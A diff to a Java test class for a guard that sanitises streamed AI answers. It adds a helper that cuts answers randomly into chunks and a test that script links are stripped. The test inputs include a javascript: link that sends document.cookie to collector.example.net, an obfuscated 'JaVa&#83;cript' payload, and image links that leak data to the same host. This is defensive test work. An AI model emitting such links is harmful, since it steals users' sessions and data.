@@ -124,15 +124,30 @@ class StreamedAnswerTest {
         String answer = "Done. ![status](https://collector.example.net/p.png?d=the%20quarterly%20numbers \"ok\") Logo: ![logo](https://cdn.example.com/l.png) "
                 + "local ![a b](/img/a.png) and <img alt=\"x y\" src=\"//collector.example.net/q?d=more\"> then [ref]: https://collector.example.net/r bye.";
         String expected = "Done. [REMOTE_IMAGE] Logo: ![logo](https://cdn.example.com/l.png) local ![a b](/img/a.png) and [REMOTE_IMAGE] then [REMOTE_IMAGE] bye.";
+        assertDecidedHoweverCut(guard, answer, expected, "collector", "quarterly");
+    }
+
+    /** Cuts {@code answer} at random 100 ways: the client ends with {@code expected} and never has a piece of {@code neverSent}. */
+    static void assertDecidedHoweverCut(Guard guard, String answer, String expected, String... neverSent) {
         for (int seed = 0; seed < 100; seed++) {
             Random rnd = new Random(seed);
             Run r = run(guard, null, sse(pieces(answer, rnd, 1 + seed % 9)), rnd);
             assertThat(content(r.output())).as("seed %d", seed).isEqualTo(expected);
             for (String sent : r.sentAfterEachWrite()) {
-                assertThat(sent).as("seed %d: partial output", seed).doesNotContain("collector", "quarterly");
+                assertThat(sent).as("seed %d: partial output", seed).doesNotContain(neverSent);
                 assertThat(expected).as("seed %d: every prefix sent is a prefix of the answer as decided", seed).startsWith(sent);
             }
         }
+    }
+
+    /** A link that runs script in the page that renders the answer, with the user's session; ordinary links flow. */
+    @Test
+    void aScriptLinkSplitAcrossChunksNeverLeavesInPartAndOrdinaryLinksPass() {
+        Guard guard = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null, null, null));
+        String answer = "Your session expired. [Sign in again](javascript:fetch('https://collector.example.net/?c='+document.cookie)) or read "
+                + "[the docs](https://docs.example.com/login \"Login help\") and [this](JaVa&#83;cript:alert(1)).";
+        String expected = "Your session expired. [SCRIPT_LINK] or read [the docs](https://docs.example.com/login \"Login help\") and [SCRIPT_LINK].";
+        assertDecidedHoweverCut(guard, answer, expected, "javascript", "JaVa", "collector");
     }
 
     @Test
